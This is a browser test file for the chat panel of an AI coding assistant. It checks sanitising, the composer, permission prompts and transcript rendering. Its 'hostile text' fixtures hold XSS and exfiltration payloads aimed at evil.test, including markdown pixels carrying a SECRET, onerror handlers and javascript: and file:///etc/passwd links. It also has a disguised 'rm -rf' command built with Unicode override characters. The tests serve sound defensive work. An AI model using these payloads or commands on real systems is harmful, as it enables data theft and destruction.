import type { Page } from 'playwright-core';
import { afterEach, beforeAll, describe, expect, test } from 'vitest';
import { GUARD_MS } from '../../../webview/state/key-guard.js';
import { loaded, PanelRig, postsOf, settled } from './rig.js';
import { SHAPES } from './texts.js';

let rig: PanelRig;

beforeAll(async () => {
  rig = await PanelRig.start();
});
afterEach(() => rig.closePages());

/** Shows a complete answer with a text. */
async function showAnswer(page: Page, text: string): Promise<void> {
  await page.evaluate((value) => {
    const item = { kind: 'answer' as const, id: 'a', blocks: [{ type: 'text' as const, text: value }], status: 'complete' as const, time: '', summary: '' };
    return globalThis.panelHost.show({ title: 'T', activity: 'idle', model: 'm', mode: 'default', usage: '', items: [item] });
  }, text);
  await page.getByRole('article', { name: 'Gnomon' }).locator('.blocks > *').first().waitFor();
}

/** Presses keys as soon as a command is asked about. @returns whether all were pressed in the time in which they count for nothing. */
async function pressAtOnce(page: Page): Promise<boolean> {
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.focus();
  await page.keyboard.down('Enter');
  const asked = await page.evaluate(async () => {
    const now = performance.now();
    await globalThis.panelHost.scene('command');
    return now;
  });
  const allow = page.getByRole('button', { name: 'Allow', exact: true });
  await allow.waitFor();
  expect(await box.evaluate((element) => element === document.activeElement)).toBe(true);
  // The person's focus is put onto the button at once, which is worse than what happens.
  await allow.focus();
  await page.keyboard.down('Enter');
  await page.keyboard.up('Enter');
  await page.keyboard.press('Enter');
  await page.keyboard.press('Space');
  return (await page.evaluate(() => performance.now())) - asked < GUARD_MS;
}

describe('hostile text', () => {
  const HOSTILE = [
    '![pixel](https://evil.test/?q=SECRET) ![](http://evil.test/a.png)',
    '<img src="https://evil.test/b.png" srcset="https://evil.test/c 2x" onerror="alert(1)">',
    '<video poster="https://evil.test/d"></video><link rel=prefetch href="https://evil.test/e"><base href="https://evil.test/">',
    '<svg><image href="https://evil.test/f"/><use href="https://evil.test/g#x"/></svg>',
    '<style>@import url(https://evil.test/h); * { background: url(https://evil.test/i) }</style>',
    '<script>alert(1)</script><iframe srcdoc="<script>alert(1)</script>"></iframe><form action="https://evil.test/"><input></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/j">',
    '[command](command:workbench.action.quit) [js](javascript:alert(1)) [vs](vscode://x) [file](file:///etc/passwd) [data](data:text/html,x) [rel](src/a.ts)',
    '`<img src=x onerror=alert(1)>` **<b onclick=alert(1)>bold</b>** &lt;script&gt;alert(1)&lt;/script&gt; <javascript:alert(1)>',
    '[x](https://evil.test/"onmouseover="alert(1)) [y](java&#115;cript:alert(1)) [z](<javascript:alert(1)> "t")',
    '```html"onload="alert(1)\n</code></pre><img src=https://evil.test/k>\n```',
    '| <img src=https://evil.test/l> | b |\n|---|---|\n| [c](command:x) | <script>1</script> |',
  ];

  test('view-01 view-02 view-04 view-05 nothing is loaded, run or made into an element', async () => {
    const page = await rig.open();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    for (const streamed of [false, true]) {
      const text = HOSTILE.join('\n\n');
      if (streamed) {
        await page.evaluate(() => globalThis.panelHost.scene('empty'));
        await page.evaluate((value) => {
          const host = globalThis.panelHost;
          host.events(
            { type: 'item_added', item: { kind: 'answer', id: 's', blocks: [{ type: 'text', text: '' }], status: 'streaming', time: '', summary: '' } },
            ...Array.from(value.match(/[^]{1,7}/g) ?? [], (delta) => ({ type: 'delta' as const, item: 's', block: 0, delta })),
            { type: 'answer_status', item: 's', status: 'complete', summary: '' },
          );
        }, text);
      } else await showAnswer(page, text);
      const article = page.getByRole('article', { name: 'Gnomon' });
      await article.getByRole('table').waitFor();
      const found = await article.evaluate((element) => ({
        elements: [...element.querySelectorAll('img,video,link,base,svg,style,script,iframe,form,input,meta,object,embed,b,audio')]
          // The pictures on the panel's own buttons; Markdown can make neither buttons nor roles.
          .filter((each) => each.closest('[role="toolbar"] > button') === null)
          .map((each) => each.outerHTML),
        handlers: [...element.querySelectorAll('*')].flatMap((each) => each.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style')),
        links: [...element.querySelectorAll('a')].map((each) => each.href).filter((href) => !/^https?:/.test(href)),
        shown: element.textContent,
      }));
      expect(found).toMatchObject({ elements: [], handlers: [], links: [] });
      expect(found.shown).toContain('<script>alert(1)</script>');
      expect(found.shown).toContain('<img src="https://evil.test/b.png"');
    }
    expect(dialogs).toEqual([]);
    expect(rig.strangeRequests).toEqual([]);
  });

  test('view-05 in names, titles, output and attachments it is text', async () => {
    const page = await rig.open();
    await page.evaluate((evil) => {
      const call = { id: 'c', name: evil, subject: evil, status: 'failed' as const, output: evil, problem: evil };
      const answer = { kind: 'answer' as const, id: 'a', blocks: [{ type: 'tool' as const, call }, { type: 'thinking' as const, text: evil, done: true }], status: 'complete' as const, time: '', summary: evil };
      const user = { kind: 'user' as const, id: 'u', text: evil, images: [evil], time: '' };
      const notice = { kind: 'notice' as const, id: 'n', level: 'error' as const, text: evil, actions: [] };
      const summary = { kind: 'compaction' as const, id: 's', trigger: 'manual' as const, summary: evil, tokensBefore: 2, tokensAfter: 1, status: 'active' as const };
      void globalThis.panelHost.show({ title: evil, activity: 'idle', model: evil, mode: evil, usage: evil, todos: [{ text: evil, status: 'done' }], instructions: [{ display: evil, hidden: evil, truncated: true }], changes: [{ path: evil, display: evil, status: 'changed' }], retry: { reason: evil, attempt: 1, maxAttempts: 2, at: Date.now() + 9e5 }, items: [user, answer, notice, summary] });
      globalThis.panelHost.post({ type: 'attachments', attachments: [{ id: 'x', name: evil, kind: 'file' }] });
      globalThis.panelHost.post({ type: 'choices', models: [{ id: evil, label: evil, group: evil }], modes: [{ id: evil, label: evil, description: evil }], efforts: [{ id: evil, label: evil }] });
    }, '<img src=https://evil.test/z onerror=alert(1)>');
    await page.getByRole('article', { name: 'You' }).waitFor();
    await page.locator('button.row').click();
    await page.getByRole('button', { name: 'Thinking', exact: true }).click();
    await page.locator('.output').waitFor();
    expect(await page.locator('img').count()).toBe(0);
    expect(rig.strangeRequests).toEqual([]);
  });

  test('view-04 a link of the web goes to the host whole, and the page stays where it is', async () => {
    const page = await rig.open();
    await showAnswer(page, 'See [here](https://example.com/a?b=1#c) and [there](command:quit).');
    const before = page.url();
    await page.getByRole('link', { name: 'here' }).click();
    await page.getByRole('link', { name: 'here' }).click({ button: 'middle' });
    await page.getByText('there').click();
    expect(await postsOf(page)).toEqual([{ type: 'open_link', url: 'https://example.com/a?b=1#c' }]);
    expect(page.url()).toBe(before);
    expect(page.context().pages()).toHaveLength(1);
  });

  test('view-11 messages of another origin or a frame are ignored', async () => {
    const page = await rig.open({ scene: 'empty' });
    await page.evaluate(() => {
      const data = { type: 'rejected', sendId: 'x', reason: 'evil' };
      window.dispatchEvent(new MessageEvent('message', { data: { type: 'snapshot', session: 'x', epoch: 'x', seq: 0, state: { title: 'evil', activity: 'idle', model: '', mode: '', usage: '', effort: 'off', retry: null, changes: [], todos: [], instructions: [], items: [] } }, origin: 'https://evil.test' }));
      window.dispatchEvent(new MessageEvent('message', { data, origin: 'null' }));
      // Messages are taken in order: once this one shows, the others have been dealt with.
      globalThis.panelHost.events({ type: 'meta', patch: { title: 'honest' } });
    });
    await page.getByRole('heading', { level: 1, name: 'honest' }).waitFor();
    expect(await page.getByText('evil').count()).toBe(0);
  });
});

describe('the composer', () => {
  test('Enter sends, Shift+Enter is a new line, the text stays until the host has it', async () => {
    const page = await rig.open({ scene: 'empty' });
    const box = page.getByRole('textbox', { name: 'Message' });
    const send = page.getByRole('button', { name: 'Send', exact: true });
    expect(await send.isDisabled()).toBe(true);
    await box.pressSequentially('one');
    await box.press('Shift+Enter');
    await box.pressSequentially('two');
    await box.press('Enter');
    await page.waitForFunction(() => document.querySelector('textarea')?.value === '');
    const posts = await postsOf(page);
    expect(posts).toMatchObject([{ type: 'send', text: 'one\ntwo', attachments: [] }]);
  });

  test('a refused message stays, with the reason', async () => {
    const page = await rig.open({ scene: 'empty' });
    await page.evaluate(() => (globalThis.panelHost.refuses = 'The disk is full.'));
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('precious');
    await box.press('Enter');
    await page.getByRole('alert').filter({ hasText: 'The disk is full.' }).waitFor();
    expect(await box.inputValue()).toBe('precious');
  });

  test('the Enter that ends an input method’s composition sends nothing', async () => {
    const page = await rig.open({ scene: 'empty' });
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('日本');
    await box.evaluate((element) => element.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true })));
    await box.evaluate((element) => element.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', keyCode: 229, bubbles: true, cancelable: true })));
    expect(await postsOf(page)).toEqual([]);
  });

  test('the draft is there again after a reload', async () => {
    const page = await rig.open({ scene: 'empty' });
    await page.getByRole('textbox', { name: 'Message' }).fill('half a thought');
    await page.waitForFunction(() => sessionStorage.getItem('state')?.includes('half a thought'));
    await page.reload();
    await loaded(page);
    expect(await page.getByRole('textbox', { name: 'Message' }).inputValue()).toBe('half a thought');
  });

  test('while a turn runs there is Stop, also by Escape, and Enter queues the text', async () => {
    const page = await rig.open({ scene: 'running' });
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('next');
    await box.press('Enter');
    await page.waitForFunction(() => document.querySelector('textarea')?.value === '');
    await box.press('Escape');
    await page.getByRole('button', { name: 'Stop', exact: true }).click();
    expect(await postsOf(page)).toMatchObject([{ type: 'send', text: 'next' }, { type: 'stop' }, { type: 'stop' }]);
  });

  test('attachments can be removed, suggestions fill the box, the host moves the focus', async () => {
    const page = await rig.open({ scene: 'empty' });
    await page.evaluate(() => globalThis.panelHost.post({ type: 'attachments', attachments: [{ id: 'x1', name: 'notes.txt', kind: 'file' }] }));
    await page.getByRole('button', { name: 'Remove notes.txt' }).click();
    await page.getByRole('button', { name: 'Attach', exact: true }).click();
    expect(await postsOf(page)).toEqual([{ type: 'remove_attachment', id: 'x1' }, { type: 'pick_attachments' }]);
    await page.getByRole('button', { name: 'Fix the failing test' }).click();
    const box = page.getByRole('textbox', { name: 'Message' });
    expect(await box.inputValue()).toBe('Fix the failing test');
    await page.getByRole('button', { name: 'History', exact: true }).focus();
    await page.evaluate(() => globalThis.panelHost.post({ type: 'focus_composer' }));
    await page.waitForFunction(() => document.activeElement?.tagName === 'TEXTAREA');
  });

  test('models and modes are chosen by keyboard', async () => {
    const page = await rig.open({ scene: 'empty' });
    const mode = page.getByRole('combobox', { name: 'Permission mode' });
    await mode.focus();
    await mode.press('Enter');
    await page.getByRole('option', { name: 'Plan' }).waitFor();
    await mode.press('Escape');
    await mode.click();
    await page.getByRole('option', { name: 'Plan' }).click();
    await expect.poll(() => postsOf(page)).toEqual([{ type: 'set_mode', mode: 'plan' }]);
    await page.evaluate(() => globalThis.panelHost.events({ type: 'meta', patch: { mode: 'plan' } }));
    await page.waitForFunction(() => document.querySelector('[aria-label="Permission mode"]')?.textContent.includes('Plan'));
  });
});

describe('permission prompts', () => {
  test('cmd-42 neither focus nor a key that is down goes to Allow', async () => {
    // On a busy machine the keys may come when the time is over in which they count for nothing: then it is tried anew.
    let page = await rig.open({ scene: 'empty' });
    while (!(await pressAtOnce(page))) page = await rig.open({ scene: 'empty' });
    const allow = page.getByRole('button', { name: 'Allow', exact: true });
    expect(await postsOf(page)).toEqual([]);
    // It is the time since the prompt appeared that counts.
    const now = await page.evaluate(() => performance.now());
    await page.waitForFunction((end) => performance.now() >= end, now + 520);
    await allow.click({ trial: true });
    await page.keyboard.down('Tab');
    await allow.focus();
    await page.keyboard.press('Enter');
    expect(await postsOf(page)).toMatchObject([{ type: 'answer_approval', answer: 'allow' }]);
    await page.keyboard.press('Enter');
    expect(await postsOf(page)).toHaveLength(1);
  });

  test('Deny carries the words, Always allow is only there with a rule for it', async () => {
    const page = await rig.open({ scene: 'command' });
    await page.getByRole('textbox', { name: /instead/ }).fill('use pnpm');
    expect(await page.getByRole('button', { name: 'Always allow' }).count()).toBe(1);
    await page.getByRole('button', { name: 'Deny', exact: true }).click();
    expect(await postsOf(page)).toMatchObject([{ type: 'answer_approval', answer: 'deny', feedback: 'use pnpm' }]);
    await page.evaluate(() => globalThis.panelHost.scene('hidden'));
    await page.getByText('cannot be seen').waitFor();
    expect(await page.getByRole('button', { name: 'Always allow' }).count()).toBe(0);
    expect(await page.getByRole('group', { name: 'Command' }).textContent()).toBe('ls \\u202Etxt.exe\\u202C && rm\\u00A0-rf \\u200B~/x\n# end');
  });

  test('a long command and a long diff are there to the last line', async () => {
    const page = await rig.open();
    await page.evaluate(() => {
      const lines = Array.from({ length: 5_000 }, (_, index) => `+line ${index} of the change`).join('\n');
      const approval = { reasons: [] };
      const diff = { id: 'd', name: 'edit', subject: 'a', status: 'awaiting_approval' as const, output: '', approval, preview: { kind: 'diff' as const, path: 'a', diff: `@@ -1 +1,5000 @@\n${lines}\n`, created: false } };
      const command = { id: 'c', name: 'bash', subject: 'x', status: 'awaiting_approval' as const, output: '', approval, preview: { kind: 'command' as const, command: `${'echo something long; '.repeat(2_000)}rm -rf x`, cwd: '/', timeoutMs: 1 } };
      const answer = { kind: 'answer' as const, id: 'a', blocks: [{ type: 'tool' as const, call: diff }, { type: 'tool' as const, call: command }], status: 'streaming' as const, time: '', summary: '' };
      void globalThis.panelHost.show({ title: '', activity: 'waiting', model: 'm', mode: 'default', usage: '', items: [answer] });
    });
    await page.waitForFunction(() => document.querySelectorAll('.line.added').length === 5_000);
    expect((await page.getByRole('group', { name: 'Command' }).textContent())?.endsWith('rm -rf x')).toBe(true);
  });

  test('view-14 after a reload the prompt is there once', async () => {
    const page = await rig.open({ scene: 'command' });
    await page.getByRole('group', { name: 'Permission required' }).waitFor();
    await page.evaluate(() => {
      const state = { ...globalThis.panelHost.state, title: 'again' };
      globalThis.panelHost.post({ type: 'snapshot', session: 'again', epoch: 'epoch-2', seq: 0, state });
    });
    await page.getByRole('heading', { level: 1, name: 'again' }).waitFor();
    expect(await page.getByRole('group', { name: 'Permission required' }).count()).toBe(1);
    expect(await postsOf(page)).toEqual([]);
  });
});

describe('the transcript', () => {
  test('what Markdown says beside its words is kept: numbers, alignment, languages, tasks', async () => {
    const page = await rig.open();
    await showAnswer(page, '7. seven\n8. eight\n   ```py\n   x\n   ```\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n```ts\ny\n```\n');
    const article = page.getByRole('article', { name: 'Gnomon' });
    await article.locator('.code-head', { hasText: 'ts' }).waitFor();
    expect(await article.locator('ol').getAttribute('start')).toBe('7');
    expect(await article.locator('td').evaluateAll((cells) => cells.map((cell) => getComputedStyle(cell).textAlign))).toEqual(['end', 'center']);
    expect(await article.locator('.code-head span').allTextContents()).toEqual(['py', 'ts']);
    expect(await article.getByRole('checkbox').evaluateAll((boxes) => boxes.map((box) => (box as HTMLInputElement).checked))).toEqual([true, false]);
  });

  test('view-16 Copy code copies exactly the code, rendered at once and streamed', async () => {
    const code = 'if (a < b && "c") {\n\n\treturn `<img>`;   \n}';
    for (const language of ['ts', '']) {
      const page = await rig.open();
      const inList = `1. one\n   \`\`\`\n   nested\n   \`\`\`\n`;
      await showAnswer(page, `\`\`\`${language}\n${code}\n\`\`\`\n\n${inList}`);
      const buttons = page.getByRole('button', { name: 'Copy code' });
      await buttons.nth(1).waitFor();
      await buttons.first().click();
      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(code);
      await buttons.last().click();
      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe('nested');
      await rig.closePages();
    }
  });

  test.each(Object.keys(SHAPES) as (keyof typeof SHAPES)[])('a long answer arrives whole: %s', async (shape) => {
    const page = await rig.open();
    const figures = await page.evaluate((name) => globalThis.panelHost.stream({ shape: name }), shape);
    console.log(shape.padEnd(11), JSON.stringify(figures, (_, value: unknown) => (typeof value === 'number' ? Math.round(value) : value)));
    const lost = await page.evaluate(() => {
      const words = (text: string): string => text.replace(/[^\p{L}\p{N}]+/gu, '');
      const item = globalThis.panelHost.state.items.at(-1);
      const block = item?.kind === 'answer' ? item.blocks[0] : undefined;
      const source = block?.type === 'text' ? block.text.replace(/^```ts\n/, '').replace(/^\s*1\. /gm, '') : 'nothing';
      const articles = document.querySelectorAll('article');
      const article = articles[articles.length - 1];
      for (const extra of article?.querySelectorAll('.code-head, .continued thead') ?? []) extra.remove();
      return words(source) === words(article?.textContent ?? '') ? '' : `${words(source).length} against ${words(article?.textContent ?? '').length}`;
    });
    expect(lost).toBe('');
  });

  test('it follows its end, and stays where the person scrolled to', async () => {
    const page = await rig.open();
    await page.evaluate(() => globalThis.panelHost.stream({ deltas: 500 }));
    const log = page.getByRole('log');
    const fromEnd = (): Promise<number> => log.evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight);
    await expect.poll(fromEnd).toBeLessThan(2);
    await log.hover();
    await page.mouse.wheel(0, -1_500);
    const jump = page.getByRole('button', { name: 'Jump to latest' });
    await jump.waitFor();
    await settled(page);
    const top = await log.evaluate((element) => element.scrollTop);
    await page.evaluate(() => {
      const item = globalThis.panelHost.state.items.at(-1)?.id ?? '';
      globalThis.panelHost.events({ type: 'block_added', item, block: { type: 'text', text: 'more\n\n'.repeat(50) } });
    });
    await page.waitForFunction(() => document.querySelector('[role=log]')?.textContent.includes('more'));
    expect(Math.abs((await log.evaluate((element) => element.scrollTop)) - top)).toBeLessThan(3);
    await jump.click();
    await jump.waitFor({ state: 'hidden' });
    await expect.poll(fromEnd).toBeLessThan(2);
  });

  test('view-15 thousands of messages: the end is there at once, the rest when it comes into view', async () => {
    const page = await rig.open();
    const longest = await page.evaluate(async () => {
      const items = Array.from({ length: 5_000 }, (_, index) =>
        index % 2 === 0
          ? { kind: 'user' as const, id: `u${index}`, text: `Question ${index}`, images: [], time: '' }
          : { kind: 'answer' as const, id: `a${index}`, blocks: [{ type: 'text' as const, text: `Answer **${index}** with words.\n\n- one\n- two\n\n\`\`\`js\ncode()\n\`\`\`\n` }], status: 'complete' as const, time: '', summary: '' },
      );
      let last = performance.now();
      let gap = 0;
      const channel = new MessageChannel();
      channel.port1.onmessage = () => {
        gap = Math.max(gap, performance.now() - last);
        last = performance.now();
        channel.port2.postMessage(0);
      };
      void globalThis.panelHost.show({ title: '', activity: 'idle', model: 'm', mode: 'default', usage: '', items });
      last = performance.now();
      channel.port2.postMessage(0);
      while (!document.body.textContent.includes('Question 4990')) await new Promise((resolve) => setTimeout(resolve, 20));
      channel.port1.close();
      return gap;
    });
    console.log('5,000 messages: longest gap', Math.round(longest), 'ms');
    await page.getByText('Answer 4999 with words.').waitFor();
    expect(await page.getByRole('article').count()).toBeLessThanOrEqual(60);
    await page.getByRole('log').press('Home');
    await page.getByRole('log').getByText('Question 0', { exact: true }).waitFor();
    expect(await page.getByRole('article').count()).toBeLessThanOrEqual(60);
  });

  test('without frames, as in a hidden tab, events are applied and acknowledged all the same', async () => {
    const page = await rig.open({ before: () => {
      let frames = 0;
      const real = window.requestAnimationFrame.bind(window);
      window.requestAnimationFrame = (callback) => ((frames += 1) > 40 ? frames : real(callback));
    } });
    await page.evaluate(() => { for (let count = 0; count < 50; count += 1) requestAnimationFrame(() => undefined); });
    await showAnswer(page, 'seen without a frame');
    await page.getByText('seen without a frame').waitFor();
  });

  test('notices offer their ways out', async () => {
    const page = await rig.open({ scene: 'trouble' });
    const names = { 'Set API key': 'set_api_key', 'Select model': 'select_model', 'Open settings': 'open_settings', 'Show log': 'show_log', Retry: 'retry', Continue: 'continue' };
    for (const name of Object.keys(names)) await page.getByRole('button', { name, exact: true }).click();
    expect(await postsOf(page)).toEqual(Object.values(names).map((action) => ({ type: 'notice_action', action })));
  });

  test('history: closing by Escape without a stop, opening', async () => {
    const page = await rig.open({ scene: 'running' });
    await page.getByRole('button', { name: 'History', exact: true }).click();
    await page.keyboard.press('Escape');
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    await page.getByRole('button', { name: 'History', exact: true }).click();
    await page.getByRole('button', { name: /^Move the settings/ }).click();
    expect(await postsOf(page)).toEqual([{ type: 'list_history' }, { type: 'close_history' }, { type: 'list_history' }, { type: 'close_history' }, { type: 'open_session', id: 'h3' }]);
  });
});

test('a failure of the page is reported and told, and the panel stays', async () => {
  const page = await rig.open({ scene: 'conversation' });
  await page.evaluate(() => {
    setTimeout(() => {
      throw new Error('something broke');
    });
  });
  await page.getByRole('alert').filter({ hasText: 'could not be shown' }).waitFor();
  expect(await postsOf(page)).toMatchObject([{ type: 'report_error', message: expect.stringContaining('something broke') as string }]);
  await page.getByRole('button', { name: 'Dismiss' }).click();
  await page.getByText('What should be done').waitFor({ state: 'hidden' });
  expect(await page.getByRole('article').count()).toBe(2);
});
